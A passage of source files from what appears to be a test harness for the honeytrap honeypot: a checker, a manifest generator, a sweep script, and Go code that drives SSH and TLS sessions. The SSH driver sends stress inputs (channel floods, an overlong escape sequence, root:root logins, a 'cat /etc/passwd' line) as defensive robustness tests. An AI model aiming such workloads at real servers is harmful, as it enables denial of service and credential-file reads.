				res.Witness = map[string]interface{}{"plan": ob.Plan, "sessions": sessNames(sv, ob.Plan.Sess), "detail": w}
			}
			for i, s := range ob.Sessions {
				ref, ok := solo[s.Tmpl]
				if !ok {
					res.Verdict = core.Inconclusive
					res.What = "no solo reference for template"
					break
				}
				n := len(s.Trans)
				if ob.Plan.Kind == "interleave" && len(ob.Plan.Sess) == 3 {
					n = mini(n, 3)
				}
				for j := 0; j < n && j < len(ref.Trans); j++ {
					if s.Trans[j] != ref.Trans[j] {
						fail("solo-equivalence|"+ob.Plan.Kind+"|reply|"+sv.Sess[s.Tmpl].Name, fmt.Sprintf("session %d (%s) step %d got %q, solo run got %q", i, sv.Sess[s.Tmpl].Name, j, clip(s.Trans[j]), clip(ref.Trans[j])), map[string]interface{}{"got": s.Trans, "solo": ref.Trans})
						break
					}
				}
				full := len(s.Trans) == len(ref.Trans)
				if full && !eqS(s.Events, ref.Events) {
					fail("solo-equivalence|"+ob.Plan.Kind+"|events|"+sv.Sess[s.Tmpl].Name, fmt.Sprintf("session %d (%s) has %d attributed events, solo run %d; first difference: %s", i, sv.Sess[s.Tmpl].Name, len(s.Events), len(ref.Events), firstDiff(s.Events, ref.Events)), map[string]interface{}{"got": s.Events, "solo": ref.Events})
				}
			}
			if len(ob.Foreign) > 0 {
				fail("attribution|"+ob.Plan.Kind, ob.Foreign[0], ob.Foreign)
			}
			if len(ob.SidBad) > 0 {
				fail("session-id|"+ob.Plan.Kind, ob.SidBad[0], ob.SidBad)
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s) in %s", e.Class, e.Frame, b.Name)})
		}
	}
	return out
}

func sessNames(sv svcDef, idx []int) []string {
	var o []string
	for _, i := range idx {
		o = append(o, sv.Sess[i].Name)
	}
	return o
}

func eqS(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func firstDiff(a, b []string) string {
	for i := 0; i < len(a) || i < len(b); i++ {
		x, y := "(none)", "(none)"
		if i < len(a) {
			x = a[i]
		}
		if i < len(b) {
			y = b[i]
		}
		if x != y {
			return fmt.Sprintf("#%d got %q solo %q", i, clip(x), clip(y))
		}
	}
	return ""
}

func clip(s string) string {
	if len(s) > 160 {
		return s[:160]
	}
	return s
}

func clipS(a []string) []string {
	var o []string
	for _, s := range a {
		o = append(o, clip(s))
	}
	return o
}
