#!/usr/bin/env python3
"""Regenerates MANIFEST.json and MANIFEST.hooks from the table below."""
import json, subprocess, os

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# id -> (category, technique, level text, level note, design ref)
CHECKS = {
 "C01": ("exploration",
         "runtime monitoring: child-process liveness + fatal-banner classifier, echo probe, resident-memory guard, Go race detector (map class) over generated hostile workloads through the real dispatcher",
         "Runs every service of the quantifier inside the real server.Run dispatcher in child processes and drives grammar dialogues, truncations, mutations, raw bytes and SSH/TLS client sessions in several segmentations over 1..32 concurrent connections; a monitor decides from process exit/stderr, a post-scenario echo probe, a resident-memory guard with workload pause, and race-detector map reports. Held means: no execution in this run killed or wedged the process.",
         "Trusts the harness's in-memory listener to stand for the socket listener, and the Go runtime's fatal banners / race detector as sensors. Says nothing about inputs beyond the size bound or paths the generators do not reach.",
         "DESIGN.md §5 C01"),
 "C02": ("exploration",
         "runtime monitoring: frames through the real Start() receive loop (verif constructor), child-process liveness + fatal-banner classifier, UDP probe event after every batch",
         "Writes enumerated field-boundary frames (IHL x total length x protocol x L4 length, TCP data offset x segment length, all 3-byte option layouts over a boundary alphabet, UDP length vs actual, short ICMP, odd ARP), seeded random/mutated frames and flood histories (70k distinct half-open attempts, mixed RST/FIN/ACK, 70k copies of one SYN) into the real receive loop under three ARP/route configurations; after each batch a well-formed UDP probe must still yield its event and the process must be alive.",
         "Frames arrive over an AF_UNIX datagram socketpair registered on an unprivileged epoll instance (hook), not AF_PACKET. Held = no explored frame or history stopped the loop; nothing is claimed for frames outside the generators.",
         "DESIGN.md §5 C02"),
 "C06": ("exploration",
         "runtime monitoring: capture channels record deliveries of stamped events through the real bus/filters; offline oracle = reference router from the statement (ordered multiset per channel and sender, token, metamorphic re-run without the other channels)",
         "Generated channel/filter configurations are run through the real server.Run; a stub service puts stamped events with matching, non-matching, missing and non-string category/service on the bus; the recorded per-channel delivery lists must equal the reference router's, carry the sensor token, and not change when unrelated channels/filters are removed.",
         "Only lab-capture channels are used as sinks (the routing code is independent of the sink type). Empty list == absent list; non-string field == empty string.",
         "DESIGN.md §5 C06"),
 "C08": ("exploration",
         "runtime monitoring: stub services record invocation and bytes read behind the real dispatcher (in-memory listener with exact segmentation and the real socket listener on loopback); offline oracle = reference selector from the statement + byte-exact stream comparison",
         "Generated port tables with detector-less and prefix-detector stub services are served by the real server.Run; probe connections with chosen first-segment lengths must reach exactly the service the statement selects, which must read the client's bytes complete and in order; unlisted ports/addresses must reach nobody.",
         "For loopback sockets the kernel may coalesce segments, so the oracle admits the choice for any prefix >= the first write. Zero-byte clients are judged weakly.",
         "DESIGN.md §5 C08"),
 "C19": ("exploration",
         "runtime monitoring: recording listener observes AddAddress calls of the real server.Run, stub probes observe reachability; offline oracle = reference port-table builder from the statement; the port-string parser is compared with a reference parser over all 65,536 numbers x {tcp,udp} (exhaustive) and a malformed set",
         "Generated configurations (port/ports, malformed strings, undefined and duplicate service names, duplicates across entries) are loaded by the real server; the multiset of addresses the listener is asked to listen on and the service each probed address reaches must equal the reference table's.",
         "IP literals only; non-canonical numerals are not generated because the statement does not pin them.",
         "DESIGN.md §5 C19"),
 "C10": ("exploration",
         "runtime monitoring: reply datagrams captured by the datagram connection's reply function behind the real dispatcher; oracle = per-source-IP count <= 4 and min(n,4) replies for reply-eliciting bursts whatever other sources send; race detector as diagnostic on the concurrent bursts",
         "Bursts of 1..200 datagrams (grammar mixes incl. multi-command memcached datagrams) from one IP over varying ports, sequential and from 200 concurrent goroutines, interleaved with bursts from other IPs, are delivered to tftp, memcached, snmp and counterstrike through the real server.Run; replies are counted per source IP.",
         "Scenario duration is far below the 10-minute refill; fresh source IPs per scenario. The lower bound is only demanded for bursts of reply-eliciting requests.",
         "DESIGN.md §5 C10"),
 "C17": ("exploration",
         "runtime monitoring: decoder operations executed under Go bounds checks on exact-capacity buffers and compared step by step with a cursor model (exhaustive over all operation sequences up to length 3/4 on 56 buffers, seeded beyond); IPP requests from an independent encoder posted through the real dispatcher, reply and event compared with what was encoded, and the service's own decoding of every request (guarded hook ipp.VerifDecode) compared value by value with the encoder's view",
         "Every sequence runs against the real decoder in its own recover; return value, Available() and the error flag are compared with the model after every operation. IPP requests over the five operations with every supported value tag and 1..3 values go through server.Run; reply version/request-id/charset/language and the print-job event fields must equal what was encoded.",
         "Out-of-bounds reads are observed through Go's bounds checks (capacity == length). The statement's treatment of negative arguments is modelled as 'does not fit' for Copy and 'rewind inside the buffer' for Seek. The decoded attribute list of an IPP request is visible neither in the reply nor in the event; it is read through the guarded hook ipp.VerifDecode and compared as a flat list of values (so the grouping of additional values into attributes is not judged, only their tags, names, bytes and order).",
         "DESIGN.md §5 C17"),
 "C05": ("exploration",
         "runtime monitoring: read-back of the real event constructors (exhaustive over all 1- and 2-byte payloads, seeded to 64 KiB, address kinds, option subsets, merge/copy vs a map model) through Range/ToMap/MarshalJSON and the real file channel's lines on disk; every event the services emit under the C01 workload is re-marshalled and field-checked in the capture channel",
         "Payload hex/length/address equalities and JSON key containment are asserted on ~87k constructor cases and on every event captured while each of the 25 service configurations is driven by the C01 generators through the real dispatcher.",
         "JSON need only contain every key (lossy UTF-8 in 'payload' is allowed). kafka/console channels are not exercised (no broker; same json.Marshal call as the capture channel makes).",
         "DESIGN.md §5 C05"),
 "C09": ("exploration",
         "runtime monitoring: resource census (goroutines by honeytrap stack signature via pprof, descriptors by kind via /proc/self/fd, CPU via getrusage) at quiescence before/after histories of N and 2N sequential connections per service, and server-side close of connections left silent at protocol stages",
         "Each service of the C01 quantifier runs in its own child behind the real dispatcher; after a warm-up census, N generated connections (plus FTP passive requests never connected to and six silent connections) are followed by a 40 s grace and a census, then N more, grace, census. A leak is an excess that is positive after N and larger after 2N; silent connections must be closed by the server within 95 s; idle CPU must stay below half a core.",
         "Bounded time is checked against generous fixed bounds (40 s after client close, 95 s of silence). Goroutines are attributed by stack signature restricted to honeytrap frames.",
         "DESIGN.md §5 C09"),
 "C04": ("exploration",
         "runtime monitoring: per-connection event recorder behind the real dispatcher; offline oracle = ordered list of command events equals the grammar generator's command list under every delivery (whole, every single cut point, multi-cut, 1-byte dribble; pipelined and lock-step; datagrams sequential and concurrent) and is identical across deliveries",
         "For 18 protocol variants, grammar-generated command sequences are delivered on a fresh connection per delivery through server.Run; the events attributed to the connection (by unique source address) must list each command exactly once, in order, with its decoded key fields, for every segmentation.",
         "Key fields compared per protocol (command line, method+url, message-id+request-type, dns id, ...); payload previews are not compared. Missing events are declared only after a 2 s wait.",
         "DESIGN.md §5 C04"),
 "C03": ("exploration",
         "runtime monitoring: transcript and event recorder per scripted session behind the real dispatcher; offline oracle = solo-equivalence (each session's canonical transcript and attributed events equal its solo run on a fresh service instance) + token/address attribution + session-id partition, over step-level interleavings, true concurrency and sequential histories; race detector as diagnostic",
         "For ldap, ftp, smtp, telnet, redis, memcached, http and tftp, scripted sessions stamped with unique tokens and distinct client addresses are interleaved at request/response granularity (exhaustive up to the bound in thorough, sampled in quick), run on parallel goroutines, and run after histories of complete/aborted earlier sessions, all against one shared service instance as in production.",
         "Only timestamps, session ids, token-derived digests and map-ordered LDAP attribute lists are masked. The reference is the session's own solo run, so any deterministic behaviour of the service is accepted.",
         "DESIGN.md §5 C03"),
 "C11": ("exploration",
         "runtime monitoring: read-back of the real RealPath/ChangeDir/Cwd over all path strings up to 5 components (exhaustive) from every reachable working directory; end-to-end FTP sessions through the real dispatcher with real passive (TLS) and active data connections, sentinel-tree snapshot before/after each command sequence, scan of RETR/LIST/NLST bytes and of reported directories; plus a system-call monitor (strace -f -e trace=%file on the child, sessions delimited by marker calls): every file-system call on a sandbox path during a session must name the root or something inside it (ancestors may be looked at only)",
         "Containment is observed from outside: a sentinel tree beside the root (parent, sibling, sibling sharing the root's name as prefix, marker entries no command names) must be byte-identical after every sequence, no listing or download may show its names or contents, and every reported working directory must be a clean absolute path.",
         "Root created without symlinks. Lexical containment for the direct part. RETR never returns file content in this implementation (it seeks to the end of the file), so content leaks can only show through listings.",
         "DESIGN.md §5 C11"),
 "C12": ("exploration",
         "runtime monitoring: real protocol clients (x/crypto SSH client with retrying password callback, LDAP simple binds, FTP USER/PASS) against the real dispatcher with generated credential sets; offline oracle = reference credential model (pair in set / wildcard) for outcomes, one authentication event per attempt with presented password and evaluated user, gated operations refused before login",
         "Credential sets over the quantifier's users and passwords (size 0..3, wildcard, entry without ':') are configured into fresh service instances; attempt sequences up to length 4 with gated-operation probes around every attempt are executed; replies and events are compared with the reference model. Thorough is exhaustive for sets of size <=1 x sequences <=2.",
         "LDAP anonymous bind = success without login. What gated operations do after a successful login is not judged.",
         "DESIGN.md §5 C12"),
 "C13": ("exploration",
         "runtime monitoring: structurally generated ClientHellos (record fragmentation x TCP segmentation) sent to the real https service through the dispatcher; the digest and server name in the connection's event are compared with an independent JA3 implementation over the raw bytes sent; GREASE-only variants must get equal digests",
         "The reference JA3 is written from the JA3 specification and parses the bytes the harness sent; it shares no code with honeytrap's TLS fork.",
         "Hellos are well-formed for the fork's parser; the handshake is not completed (the failed-handshake event carries the fields).",
         "DESIGN.md §5 C13"),
 "C20": ("exploration",
         "runtime monitoring: probe bursts written into the real receive loop (verif constructor) with the real knock detector and its 5 s timer; the portscan events captured after the tick are compared with the set of probed protocol/port pairs per source (exactly once, no foreign pairs, one event per protocol group); the grouping container is compared with a set model over all operation sequences up to length 6 on 3 keys (exhaustive)",
         "Each scenario owns a listener instance; 48 instances run concurrently per wave so the real-time wait for the detector is shared. All interleavings of 2 sources x 3 probes and (thorough) 3 x 2, seeded bursts of 1..150 probes over TCP/UDP/ICMP with repeated ports from 1..4 sources.",
         "Events are awaited up to 16 s (three detector periods); verdicts are on content. TCP port 22 and decoded UDP ports are not probed.",
         "DESIGN.md §5 C20"),
 "C14": ("exploration",
         "runtime monitoring: frames injected synchronously into the real handleTCP (verif accessor), emitted frames drained from the transmit ring and verified by an independent Ethernet/IPv4/TCP decoder (lengths, header and pseudo-header checksums, addressing); offline oracle = RFC 793 shadow model of the peer's expectations (SYN-ACK ack, exact cumulative acks modulo 2^32, FIN answered, event addresses/payload prefix), over boundary ISNs, segmentations, all 252 interleavings of two 5-frame connections, seeded multi-connection interleavings and a yield point that parks the handler",
         "The shadow client behaves like a real peer (acknowledges the listener's FIN once it has seen it). Every emitted frame is decoded independently; every connection's event is compared with the bytes sent.",
         "Frames are read from the transmit ring, not the wire; server ISN is whatever the implementation draws. Five design-level deviations are recorded as known findings (see known_findings.jsonl).",
         "DESIGN.md §5 C14"),
 "C07": ("fault_enumeration",
         "runtime monitoring: the real rotating writer driven directly over all sequences of up to 4/6 single-line writes with boundary line lengths (exhaustive for max size 1024) and seeded multi-line batches for three max sizes, with the log file renamed/removed externally before each write position; the real FileBackend end to end with bursts from 1/4/32 goroutines and unopenable destinations; offline oracle over the files on disk after quiescence: multiset of stamped lines, every line parses, per-file size rule, Send completion under a watchdog",
         "What is judged is what is on disk after the flush interval: every accepted stamp exactly once as a parseable line in the log file or a rotated predecessor, no file above the maximum size unless it is a single line, no Send stuck.",
         "Fault space = external rename/remove before any write of a sequence, destination missing/unusable before the writer starts. ENOSPC/EIO mid-write and power loss are not injected.",
         "DESIGN.md §5 C07"),
 "C16": ("exploration",
         "runtime monitoring: a scripted agent over the real Disco (Noise_NK) transport drives the real agent listener inside server.Run; a recording/echoing stub service on the announced ports and the frames returned to the agent are compared per virtual connection with the stamped payloads sent (FIFO, exactly-once, addresses, termination set); yield point parks the service's reader between its buffer check and its wait; codec round trips against an independent encoder/decoder over all 65,536 ports and payload lengths to 65,000; race detector as diagnostic",
         "All interleavings of two 4-message connections (70), (thorough) three 3-message connections (1680), seeded sessions with 1..4 connections and up to 20 data messages of 0..60000 bytes, unknown ids, pings, UDP relay, agent disconnect mid-stream.",
         "Unique (connection, sequence) stamps make the histories unambiguous, so exactly-once and order are decided by comparison. The scripted agent frames messages like the real agent.",
         "DESIGN.md §5 C16"),
 "C15": ("exploration",
         "runtime monitoring: real http-proxy, ssh-proxy, copy and dns-proxy behind the dispatcher with forward directors to recording harness backends on loopback (raw HTTP backend, x/crypto SSH server, TCP/UDP transformers) plus a decoy listener; oracle = backend-received == client-sent (request line, header multimap, body; SSH credentials, channel requests and data; raw bytes), client-received == backend-sent, one attributed event per relayed request, decoy untouched",
         "HTTP request sequences are delivered lock-step and pipelined with every single cut point (short streams) or sampled cuts; backend replies are written in seeded chunks; 1..3 concurrent clients. The backends answer with a transformation (xor) of what they received so a proxy echoing locally is told apart.",
         "Allowed intermediary differences (header order across names, re-framing, name case) are not violations. connect() targets are observed twice: through the decoy listener and the backends' own accept counts, and - for the first scenarios of every part - through a system-call monitor (strace -f -e trace=connect on the child): every connect() to an internet address must name a backend.",
         "DESIGN.md §5 C15"),
 "C18": ("fault_enumeration",
         "runtime monitoring of the real binary across process lifetimes: identity read from outside (token in event lines, SSH host key via handshake callback, leaf certificates via FTP AUTH TLS / SMTP STARTTLS / LDAP StartTLS, agent key via printed key and a Noise_NK handshake with the remembered key) over restart histories, every synthesized on-disk state of the token file (absent, empty, all 19 proper prefixes), SIGKILL at seeded instants of a first start and (thorough) at the k-th file-system syscall injected with strace",
         "Each scenario owns a data directory and free loopback ports; after any interrupted start, two more starts must come up with a well-formed token and the same identity tuple.",
         "Crash = process kill; power loss is not modelled. A start is retried twice before 'does not come up' is reported.",
         "DESIGN.md §5 C18"),
}

NOT_YET = {
}

def props():
    out = []
    with open(os.path.join(V, "properties.jsonl")) as f:
        for ln in f:
            out.append(json.loads(ln))
    return out

def hook_commits():
    try:
        log = subprocess.check_output(["git", "-C", "/repo", "log", "--format=%h %s"], text=True)
    except Exception:
        return []
    return [l.split()[0] for l in log.splitlines() if l.split(" ", 1)[1].startswith("verif hook")]

def main():
    checks = []
    na = []
    for p in props():
        pid = p["id"]
        if pid in CHECKS:
            cat, tech, text, note, ref = CHECKS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"./check {pid} quick",
                "thorough_cmd": f"./check {pid} thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"./check {pid} --replay {{path}}",
                "engine": "htlab",
                "level_claimed": {"category": cat, "text": text, "design_ref": ref},
                "level_note": note,
                "technique": tech,
            })
        else:
            na.append({"property_id": pid, "reason": NOT_YET.get(pid, "check not built yet in this session (work in progress; the design in DESIGN.md §5 applies)")})
    hc = hook_commits()
    baseline = "for m in $(cat /w/out/gomods.txt); do MF=$(cd /repo/$m && . /w/out/goenv.sh && gomodflag); (cd /repo/$m && go test $MF -json -vet=off -count=1 -timeout 25m ./...); done"
    m = {
        "version": 1,
        "setup_cmd": "./check --setup",
        "hooks": {
            "guard": "verif",
            "enable": "go build -tags verif (the harness module /verif replaces github.com/honeytrap/honeytrap with /repo and is always built with -tags verif from /repo's working tree)",
            "baseline_off_cmd": baseline,
            "source_commits": hc,
            "add_only": True,
        },
        "engines": [{"name": "htlab", "path": "/verif/cmd/htlab", "serves_properties": [c["property_id"] for c in checks],
                     "kind_free_text": "Go executable: driver (monitors, offline oracles, evidence) + child processes hosting the real honeytrap code under generated workloads"}],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks are runtime monitors over executions of the real code; see DESIGN.md. known_findings.jsonl lists genuine defects recorded or fixed.",
    }
    with open(os.path.join(V, "MANIFEST.json"), "w") as f:
        json.dump(m, f, indent=1)
        f.write("\n")
    with open(os.path.join(V, "MANIFEST.hooks"), "w") as f:
        f.write("# Hook changes to /repo (guard: build tag `verif`; add-only)\n")
        f.write("guard: verif\n")
        for c in hc:
            subj = subprocess.check_output(["git", "-C", "/repo", "log", "-1", "--format=%s", c], text=True).strip()
            files = subprocess.check_output(["git", "-C", "/repo", "show", "--stat", "--format=", c], text=True).strip()
            f.write(f"\ncommit {c}: {subj}\n{files}\n")
        f.write("\nbaseline with the guard off: " + baseline + "\n")

main()
