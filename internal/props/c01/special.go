package c01

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"strings"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
	"verif/htlab/internal/lab"
)

func withTimeout(d time.Duration, f func()) bool {
	done := make(chan struct{})
	go func() { defer close(done); f() }()
	select {
	case <-done:
		return true
	case <-time.After(d):
		return false
	}
}

// sshSpecial drives an authenticated SSH session with raw request payloads.
func sshSpecial(cc *lab.CliConn, s gen.Service, sc scenario, c int) (reply int) {
	r := core.NewRng(int64(sc.Sub), "ssh", c)
	defer cc.Close()
	pw := r.PickS([]string{"root", "x", ""})
	user := r.PickS([]string{"root", "admin", ""})
	if sc.Force > 0 {
		user, pw = "root", "root" // the lab configuration accepts root:root
	}
	cfg := &ssh.ClientConfig{
		User:            user,
		Auth:            []ssh.AuthMethod{ssh.Password(pw)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         5 * time.Second,
	}
	cc.SetDeadline(time.Now().Add(8 * time.Second))
	conn, chans, reqs, err := ssh.NewClientConn(cc, "lab", cfg)
	if err != nil {
		return 1 // the server reacted (banner/kex), auth refused or failed
	}
	reply = 2
	go ssh.DiscardRequests(reqs)
	go func() {
		for nc := range chans {
			nc.Reject(ssh.Prohibited, "no")
		}
	}()
	lp := func(s string) []byte { return append(binary.BigEndian.AppendUint32(nil, uint32(len(s))), s...) }
	n := r.Range(1, 5)
	for i := 0; i < n; i++ {
		cs := r.Intn(7)
		if sc.Force > 0 {
			cs = sc.Force
		}
		switch cs {
		case 8:
			// a shell whose window is resized more often than any queue of pending channel requests holds (a
			// tiling window manager does that), then a command, then the client goes away
			var ch ssh.Channel
			var rq <-chan *ssh.Request
			ok := withTimeout(3*time.Second, func() { ch, rq, err = conn.OpenChannel("session", nil) })
			if !ok || err != nil {
				return
			}
			go ssh.DiscardRequests(rq)
			withTimeout(2*time.Second, func() { ch.SendRequest("pty-req", true, append(lp("xterm"), make([]byte, 20)...)) })
			withTimeout(2*time.Second, func() { ch.SendRequest("shell", true, nil) })
			withTimeout(3*time.Second, func() {
				for j := 0; j < 40; j++ {
					ch.SendRequest("window-change", false, []byte{0, 0, 0, byte(80 + j), 0, 0, 0, 24, 0, 0, 0, 0, 0, 0, 0, 0})
				}
				ch.Write([]byte("ls\n"))
			})
			time.Sleep(50 * time.Millisecond)
			return
		case 7:
			// a shell that is sent a key sequence which never ends (an escape sequence without its final letter,
			// longer than the line editor's 256-byte buffer); then the client goes away
			var ch ssh.Channel
			var rq <-chan *ssh.Request
			ok := withTimeout(3*time.Second, func() { ch, rq, err = conn.OpenChannel("session", nil) })
			if !ok || err != nil {
				return
			}
			go ssh.DiscardRequests(rq)
			withTimeout(2*time.Second, func() { ch.SendRequest("shell", true, nil) })
			withTimeout(2*time.Second, func() {
				ch.Write([]byte("ls\n"))
				ch.Write(append([]byte{0x1b, '['}, bytes.Repeat([]byte("1;"), 300)...))
			})
			time.Sleep(50 * time.Millisecond)
			return
		case 6:
			// a session channel kept open while far more further channels are opened than any queue of
			// pending opens holds; then the client goes away
			var ch ssh.Channel
			var rq <-chan *ssh.Request
			ok := withTimeout(3*time.Second, func() { ch, rq, err = conn.OpenChannel("session", nil) })
			if !ok || err != nil {
				return
			}
			go ssh.DiscardRequests(rq)
			withTimeout(2*time.Second, func() { ch.SendRequest("shell", r.Bool(), nil) })
			var wg sync.WaitGroup
			for j := 0; j < 150; j++ {
				wg.Add(1)
				go func() {
					defer wg.Done()
					withTimeout(2*time.Second, func() {
						if c2, r2, e2 := conn.OpenChannel("session", nil); e2 == nil {
							go ssh.DiscardRequests(r2)
							_ = c2
						}
					})
				}()
			}
			withTimeout(3*time.Second, wg.Wait)
			return
		case 0, 1, 2:
			var ch ssh.Channel
			var rq <-chan *ssh.Request
			ok := withTimeout(3*time.Second, func() { ch, rq, err = conn.OpenChannel("session", nil) })
			if !ok || err != nil {
				return
			}
			go ssh.DiscardRequests(rq)
			for j := r.Range(1, 4); j > 0; j-- {
				typ := r.PickS([]string{"env", "exec", "subsystem", "pty-req", "shell", "tcpip-forward", "x11-req", "window-change"})
				var pl []byte
				switch r.Intn(4) {
				case 0:
					pl = r.Bytes(r.Intn(9)) // raw payload of every length 0..8
				case 1:
					pl = append(lp("LANG"), lp("C")...)
				case 2:
					pl = lp(r.Alnum(r.Intn(20)))
				case 3:
					pl = append(lp("x"), r.Bytes(r.Intn(4))...)
				}
				okr := withTimeout(2*time.Second, func() { ch.SendRequest(typ, r.Bool(), pl) })
				if !okr {
					return
				}
				if typ == "shell" {
					// what people and bots type into a shell: commands, blank and whitespace-only lines,
					// very long lines, control characters, no final newline
					lines := []string{"ls\n", "   \r", "\t\n", "\r\n", "uname -a\r\n", " \n", strings.Repeat("A", 5000) + "\n", "\x03\x04\x1b[A\n", "cat /etc/passwd | head -1\r", "exit"}
					var in []byte
					for j := r.Range(1, 6); j > 0; j-- {
						in = append(in, lines[r.Intn(len(lines))]...)
					}
					in = append(in, "exit\n"...)
					withTimeout(2*time.Second, func() { ch.Write(in) })
				}
			}
			withTimeout(time.Second, func() { ch.Close() })
		case 3:
			extra := r.Bytes(r.Intn(12))
			if r.Bool() {
				extra = append(append(lp("host"), 0, 0, 0, 80), append(lp("1.2.3.4"), 0, 0, 4, 0)...)
			}
			typ := r.PickS([]string{"direct-tcpip", "forwarded-tcpip", "x11", "auth-agent@openssh.com"})
			withTimeout(2*time.Second, func() { conn.OpenChannel(typ, extra) })
		case 4:
			withTimeout(2*time.Second, func() {
				conn.SendRequest(r.PickS([]string{"tcpip-forward", "keepalive@openssh.com"}), true, r.Bytes(r.Intn(9)))
			})
		case 5:
			return
		}
	}
	return
}

var sniPool = []string{"", "a.test"}

// tlsSpecial completes a TLS handshake with the https service and sends
// grammar HTTP requests inside it.
func tlsSpecial(cc *lab.CliConn, s gen.Service, sc scenario, c int) (reply int) {
	r := core.NewRng(int64(sc.Sub), "tls", c)
	defer cc.Close()
	cfg := &tls.Config{InsecureSkipVerify: true, ServerName: r.PickS(sniPool), MaxVersion: tls.VersionTLS12}
	if r.Chance(1, 4) {
		cfg.MaxVersion = tls.VersionTLS11
		cfg.MinVersion = tls.VersionTLS10
	}
	cc.SetDeadline(time.Now().Add(30 * time.Second))
	tc := tls.Client(cc, cfg)
	if err := tc.Handshake(); err != nil {
		return 1
	}
	reply = 2
	for _, req := range gen.HTTPDialogue(r) {
		if r.Chance(1, 4) {
			req = gen.Mutate(r, req)
		}
		tc.SetDeadline(time.Now().Add(2 * time.Second))
		if _, err := tc.Write(req); err != nil {
			break
		}
		buf := make([]byte, 4096)
		n, _ := tc.Read(buf)
		reply += n
	}
	tc.Close()
	return
}

var _ = fmt.Sprintf
