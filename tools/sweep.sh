#!/bin/bash
# tools/sweep.sh [quick|thorough] [seed] : runs every check in turn, prints one line per check.
tier="${1:-quick}"; seed="${2:-1}"
cd "$(dirname "$0")/.." || exit 2
./check --setup >/dev/null 2>&1 || { echo "setup failed"; exit 2; }
rc=0
for i in $(seq 1 20); do
  id=$(printf "C%02d" $i)
  out=$(VERIF_SEED=$seed ./check $id $tier 2>&1); e=$?
  echo "$id exit=$e $(echo "$out" | grep -E '^SUMMARY' | sed 's/^SUMMARY property=C[0-9]* //')"
  echo "$out" | grep -E '^VIOLATION|^  signature=|^ERROR' | cut -c1-400
  [ $e -ne 0 ] && rc=1
done
exit $rc
