package lab

import (
	"bufio"
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/services"
)

func init() {
	services.Register("lab-stub-plain", func(o ...services.ServicerFunc) services.Servicer { return newStub(false, o) })
	services.Register("lab-stub-prefix", func(o ...services.ServicerFunc) services.Servicer { return newStub(true, o) })
	services.Register("lab-stub-emitter", func(o ...services.ServicerFunc) services.Servicer {
		s := &emitter{}
		for _, f := range o {
			f(s)
		}
		return s
	})
}

// StubCall is one invocation of a stub service's Handle.
type StubCall struct {
	Stub   string
	Run    int
	Remote string
	Local  string
	Net    string
	Data   []byte
	Done   bool
	Err    string
}

type stubStore struct {
	mu    sync.Mutex
	cond  *sync.Cond
	calls []*StubCall
	peeks []StubPeek
}

// StubPeek is one CanHandle call.
type StubPeek struct {
	Stub    string
	Payload []byte
	Result  bool
}

var Stubs = func() *stubStore { s := &stubStore{}; s.cond = sync.NewCond(&s.mu); return s }()

func (s *stubStore) Snapshot() []StubCall {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]StubCall, len(s.calls))
	for i, c := range s.calls {
		out[i] = *c
		out[i].Data = append([]byte(nil), c.Data...)
	}
	return out
}

func (s *stubStore) Peeks() []StubPeek {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]StubPeek(nil), s.peeks...)
}

func (s *stubStore) Len() int { s.mu.Lock(); defer s.mu.Unlock(); return len(s.calls) }

// Reset forgets recorded calls (between scenarios).
func (s *stubStore) Reset() {
	s.mu.Lock()
	s.calls = nil
	s.peeks = nil
	s.mu.Unlock()
}

type stub struct {
	Name   string `toml:"name"`
	Prefix string `toml:"prefix"` // hex
	Echo   bool   `toml:"echo"`
	SlowMs int    `toml:"slow_ms"` // read 4 bytes, pause, then read on (keeps peeked bytes pending for a while)
	// DeadlineMs: leave a write deadline this far in the future behind at the start and after every echo write
	// (the echo writes themselves run without a deadline)
	DeadlineMs int `toml:"write_deadline_ms"`
	// CloseAfterFirst: the service is done after the first bytes it has read (and echoed): it returns, which closes
	// its connection
	CloseAfterFirst bool `toml:"close_after_first"`
	// BlobBytes: answer the first bytes read with one single Write of this many bytes (lab.Blob)
	BlobBytes int `toml:"blob_bytes"`
	// ReplyDelayMs: wait this long before every echo write (a service that answers late)
	ReplyDelayMs int `toml:"reply_delay_ms"`
	run          int
	ch           pushers.Channel
}

type prefixStub struct{ *stub }

func newStub(prefix bool, opts []services.ServicerFunc) services.Servicer {
	s := &stub{}
	var sv services.Servicer = s
	if prefix {
		sv = &prefixStub{s}
	}
	for _, f := range opts {
		f(sv)
	}
	Events.mu.Lock()
	s.run = Events.run
	Events.mu.Unlock()
	return sv
}

func (s *stub) SetChannel(c pushers.Channel) { s.ch = c }

func (p *prefixStub) CanHandle(payload []byte) bool {
	pre, _ := hex.DecodeString(p.Prefix)
	ok := bytes.HasPrefix(payload, pre)
	Stubs.mu.Lock()
	Stubs.peeks = append(Stubs.peeks, StubPeek{Stub: p.Name, Payload: append([]byte(nil), payload...), Result: ok})
	Stubs.mu.Unlock()
	return ok
}

func (s *stub) Handle(ctx context.Context, conn net.Conn) error {
	call := &StubCall{Stub: s.Name, Run: s.run, Remote: conn.RemoteAddr().String(), Local: conn.LocalAddr().String(), Net: conn.RemoteAddr().Network()}
	Stubs.mu.Lock()
	Stubs.calls = append(Stubs.calls, call)
	Stubs.mu.Unlock()
	buf := make([]byte, 4096)
	first := true
	blobSent := false
	if s.DeadlineMs > 0 {
		conn.SetWriteDeadline(time.Now().Add(time.Duration(s.DeadlineMs) * time.Millisecond))
	}
	for {
		rb := buf
		if s.SlowMs > 0 && first {
			rb = buf[:4]
		}
